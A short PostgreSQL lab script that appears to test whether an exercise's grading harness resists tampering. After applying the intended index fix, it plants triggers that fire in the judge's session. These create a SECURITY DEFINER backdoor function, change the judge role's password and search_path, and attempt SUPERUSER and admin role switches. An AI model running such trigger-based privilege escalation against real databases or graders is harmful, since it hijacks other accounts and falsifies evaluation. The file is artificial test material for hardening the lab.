# lab: 10-missing-index
# tries: a trigger in the judge's session that leaves functions with the judge's rights, and grants itself what it can.
# expect: safe=2.5
# %% solution="fix"
lab.execute("CREATE INDEX CONCURRENTLY ON order_items (order_id)")
import psycopg


def attempt(*statements):
    """Run each in a session of its own, and say what came of it."""
    for statement in statements:
        try:
            with lab.connect() as own:
                cursor = own.execute(statement.encode())
                print(
                    statement[:80], "->", cursor.fetchmany(20) if cursor.description else cursor.statusmessage
                )
        except psycopg.Error as error:
            print(statement[:80], "->", type(error).__name__, str(error).splitlines()[0])


me = lab.conninfo["user"]
attempt(
    f"""CREATE FUNCTION climb() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN
    EXECUTE 'CREATE OR REPLACE FUNCTION as_judge(c text) RETURNS void LANGUAGE plpgsql SECURITY DEFINER AS $g$ BEGIN EXECUTE c; END $g$';
    EXECUTE 'ALTER ROLE {me}_judge SET search_path = nowhere';
    EXECUTE 'ALTER ROLE {me}_judge PASSWORD ' || quote_literal('x');
    BEGIN EXECUTE 'ALTER ROLE {me} SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'SET ROLE pglab_admin'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
    RETURN NULL; END $f$""",
    "CREATE TRIGGER climb AFTER INSERT ON orders FOR EACH STATEMENT EXECUTE FUNCTION climb()",
    "CREATE TRIGGER climb AFTER INSERT ON order_items FOR EACH STATEMENT EXECUTE FUNCTION climb()",
)
lab.check("fix")
attempt("SELECT as_judge('SELECT 1')")
